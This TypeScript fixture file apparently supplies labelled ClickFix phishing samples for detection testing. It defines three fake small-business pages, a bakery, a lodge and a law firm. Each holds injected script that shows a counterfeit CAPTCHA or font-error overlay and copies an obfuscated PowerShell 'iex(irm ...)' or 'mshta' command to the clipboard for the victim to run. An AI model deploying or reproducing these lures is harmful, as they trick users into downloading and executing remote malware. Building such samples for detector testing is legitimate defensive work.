import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-clickfix-bakery-wordpress-turnstile',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.bloemhofbakery.co.za/order-celebration-cakes/',
  body: doc('Order Celebration Cakes – Bloemhof Bakery, Stellenbosch', `
<header class="site"><div class="in"><b class="brand">Bloemhof Bakery</b><nav><a href="/">Home</a><a href="/menu/">Menu</a><a href="/order-celebration-cakes/">Cakes</a><a href="/contact/">Contact</a></nav></div></header>
<main class="in">
 <h1>Order a celebration cake</h1>
 <p>From melktert to three-tier wedding cakes, everything is baked fresh in our Dorp Street kitchen. Please order at least 48 hours in advance. Collection Tue–Sat, 07:00–15:00.</p>
 <div class="cakes"><div><h3>Chocolate Fudge</h3><p>From R420</p></div><div><h3>Red Velvet</h3><p>From R460</p></div><div><h3>Carrot &amp; Walnut</h3><p>From R390</p></div></div>
 <form class="wpcf7" action="/wp-json/contact-form-7/v1/contact-forms/112/feedback" method="post"><p>Name<br><input name="your-name"></p><p>Phone<br><input name="tel"></p><p>Cake &amp; date<br><textarea name="msg"></textarea></p><p><button>Send enquiry</button></p></form>
</main>
<footer class="in">© 2025 Bloemhof Bakery · 14 Dorp Street, Stellenbosch · 021 883 0192 · Powered by WordPress</footer>
<script src="/wp-content/plugins/wp-optimize-cache/assets/js/lazy.min.js?ver=3.2.1"></script>`, {
    head: "<link rel='stylesheet' href='/wp-includes/css/dist/block-library/style.min.css?ver=6.5.2'><meta name='generator' content='WordPress 6.5.2'>",
    css: `body{margin:0;font-family:Lora,Georgia,serif;color:#3b2a20;background:#fffaf3}.in{max-width:900px;margin:0 auto;padding:0 16px}.site{background:#f3e3cf;padding:16px 0}.brand{font-size:24px}nav a{margin-left:16px;color:#3b2a20}
.cakes{display:flex;gap:14px}.cakes div{flex:1;background:#fff;padding:14px;border:1px solid #ead8c0}footer{font-size:12px;color:#8a6f5a;padding:30px 16px}`,
  }),
  routes: {
    'www.bloemhofbakery.co.za/wp-content/plugins/wp-optimize-cache/assets/js/lazy.min.js': jsRoute(`(function(){if(localStorage.getItem("cf_ok"))return;
var c=atob("${b64('powershell -w h -nop -c "$r=\'https://cdn.jsdeliver-static.com/b/verify.ps1\';iex(irm $r)" # \u2705 I am not a robot - Cloudflare Verification ID: 71-4490')}");
var o=document.createElement("div");o.id="cfv";o.style.cssText="position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:-apple-system,Segoe UI,Arial,sans-serif;display:flex;flex-direction:column;align-items:center;padding-top:90px";
o.innerHTML='<h1 style="font-weight:500;font-size:30px">'+location.hostname+'</h1><p style="font-size:18px">Verify you are human by completing the action below.</p><div id="cbx" style="width:300px;border:1px solid #e0e0e0;background:#fafafa;padding:18px;display:flex;align-items:center;gap:12px;cursor:pointer"><span style="width:24px;height:24px;border:2px solid #666;border-radius:3px;display:inline-block"></span><span>Verify you are human</span><span style="margin-left:auto;font-size:10px;color:#888">CLOUDFLARE<br>Privacy · Terms</span></div><div id="stp" style="display:none;max-width:440px;margin-top:24px;font-size:15px;line-height:1.8"><b>Verification steps</b><br>1. Press &amp; hold the Windows Key <b>⊞</b> + <b>R</b><br>2. In the verification window, press <b>Ctrl</b> + <b>V</b><br>3. Press <b>Enter</b> on your keyboard to finish<br><span style="color:#777;font-size:13px">You will observe and agree: "I am not a robot - Cloudflare Verification ID: 71-4490"</span></div><p style="margin-top:50px;color:#666;font-size:13px">'+location.hostname+' needs to review the security of your connection before proceeding.</p>';
document.body.appendChild(o);
document.getElementById("cbx").onclick=function(){
  try{navigator.clipboard.writeText(c)}catch(e){}
  var t=document.createElement("textarea");t.value=c;document.body.appendChild(t);t.select();try{document.execCommand("copy")}catch(e){}t.remove();
  document.getElementById("stp").style.display="block";
  setTimeout(function(){localStorage.setItem("cf_ok","1")},60000);
};})();`),
  },
},
{
  id: 'yh-clickfix-namibia-lodge-font-missing',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.okahandja-riverlodge.com.na/rooms-and-rates',
  body: doc('Rooms & Rates | Okahandja River Lodge', `
<div id="site">
 <h1>Rooms &amp; Rates</h1>
 <p>Luxury chalets on the banks of the Okahandja River, 70 km from Windhoek. All rates include breakfast. Game drives N$ 650 pp.</p>
 <ul><li>Standard chalet – N$ 1 450 per night</li><li>Family chalet – N$ 2 300 per night</li><li>Honeymoon suite – N$ 2 900 per night</li></ul>
 <p>Bookings: reservations@okahandja-riverlodge.com.na · +264 62 503 118</p>
</div>
<script>
(function(){
 var g=["\\u00a3\\u00b4\\u00ae","\\u0161\\u00a9"].join("");
 var s=document.getElementById("site");
 s.style.filter="blur(0px)";
 var t=document.createElement("div");
 t.innerHTML='<div style="position:fixed;top:0;left:0;right:0;bottom:0;background:rgba(0,0,0,.55);z-index:99999;display:flex;align-items:center;justify-content:center"><div style="background:#fff;width:520px;border-radius:6px;font-family:Arial,sans-serif;overflow:hidden"><div style="background:#f1f3f4;padding:10px 16px;font-size:14px">&#9888; The "HaveLight" font was not found.</div><div style="padding:18px 22px;font-size:14px;line-height:1.6"><p>The web page you are trying to load is displayed incorrectly, as it uses the <b>HaveLight</b> font. To fix the display error you need to update the "Chrome Font Pack".</p><p><b>How to fix:</b><br>1. Click the <b>Copy fix</b> button below.<br>2. Right-click the Windows Start button and open <b>Terminal (Admin)</b> or <b>Windows PowerShell</b>.<br>3. Right-click inside the window to paste and press <b>Enter</b>.</p><p style="font-size:12px;color:#666">Manufacturer: Google LLC · Version 124.0.6367</p><button id="fx" style="background:#1a73e8;color:#fff;border:0;padding:9px 22px;border-radius:4px">Copy fix</button> <span id="ok" style="color:#188038;display:none">Copied!</span></div></div></div>';
 document.body.appendChild(t);
 s.innerHTML=s.innerHTML.replace(/[a-z]/g,function(c){return g[c.charCodeAt(0)%g.length]});
 document.getElementById("fx").onclick=function(){
  var p=["mshta"," https://okahandja-riverlodge.com.na","/wp-content/uploads/2025/03/","font-pack.hta"].join("");
  navigator.clipboard.writeText(p+"  # Chrome Font Pack Update");document.getElementById("ok").style.display="inline"};
})();
</script>`, { css: 'body{font-family:Garamond,Georgia,serif;margin:40px;background:#f6efe4;color:#3a2b1c}' }),
},
{
  id: 'yh-clickfix-attorneys-fake-recaptcha-mshta',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.molefe-attorneys.co.bw/contact-us/',
  body: doc('Contact Us - Molefe & Partners Attorneys, Gaborone', `
<header><b>Molefe &amp; Partners</b> <span>Attorneys · Notaries · Conveyancers</span></header>
<div class="b">
 <h1>Contact us</h1>
 <p>Plot 54368, CBD, Gaborone · Tel +267 391 2284 · info@molefe-attorneys.co.bw</p>
 <div id="gate" class="gate">
  <p>Before sending a message please confirm you are not a robot.</p>
  <div class="rc" id="rc"><span class="ck" id="ck"></span> I'm not a robot <span class="rl">reCAPTCHA<br><small>Privacy - Terms</small></span></div>
 </div>
 <div id="steps" class="st" hidden>
  <h3>Verification Steps</h3>
  <ol><li>Press <b>Windows Button "⊞" + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b> on your keyboard to finish</li></ol>
  <p class="sm">Perform the steps above to finish verification.</p>
 </div>
</div>
<script>
function _r(s){return s.split('').reverse().join('')}
document.getElementById('rc').onclick=function(){
 document.getElementById('ck').className='ck spin';
 var cmd=_r('${rev('mshta https://molefe-attorneys.co.bw/wp-includes/js/captcha-verify.hta # ✅ I am not a robot - reCAPTCHA Verification ID: 2291')}');
 var ta=document.createElement('textarea');ta.value=cmd;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);
 setTimeout(function(){document.getElementById('steps').hidden=false},900);
};
</script>`, {
    css: `body{margin:0;font-family:"Times New Roman",serif;background:#fafafa}header{background:#1f2a44;color:#fff;padding:18px 24px;font-size:22px}header span{font-size:13px;color:#c5cbe0;margin-left:10px}.b{max-width:700px;margin:24px auto;padding:0 16px}
.gate{border:1px solid #ccc;background:#fff;padding:16px;font-family:Arial,sans-serif}.rc{display:flex;align-items:center;gap:12px;width:290px;border:1px solid #d3d3d3;background:#f9f9f9;padding:14px;cursor:pointer}.ck{width:24px;height:24px;border:2px solid #c1c1c1;border-radius:2px}.ck.spin{border-radius:50%;border-color:#4a90e2 #ddd #ddd #ddd;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}
.rl{margin-left:auto;font-size:10px;color:#555;text-align:center}.st{background:#fff;border:1px solid #ccc;padding:16px;margin-top:12px;font-family:Arial,sans-serif}.sm{color:#666;font-size:12px}`,
  }),
},
];
